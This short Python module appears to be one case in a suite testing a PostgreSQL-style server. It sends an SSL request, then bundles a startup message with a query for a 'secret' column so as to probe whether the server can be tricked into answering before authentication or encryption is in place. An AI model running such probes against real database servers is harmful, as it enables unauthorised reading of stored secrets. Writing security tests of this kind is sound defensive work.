"""Asks for encryption, then sends a Query with the StartupMessage."""

from attacks.frames import ask, query
from attacks.talking import Server
from raw_client import SSL_REQUEST, startup

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.raw() as client:
        client.send(SSL_REQUEST)
        client.read_byte()
        hello = startup(user=server.user, database=server.dbname)
        return ask(client, hello, query(b"SELECT secret FROM vlt_account"), rounds=2)
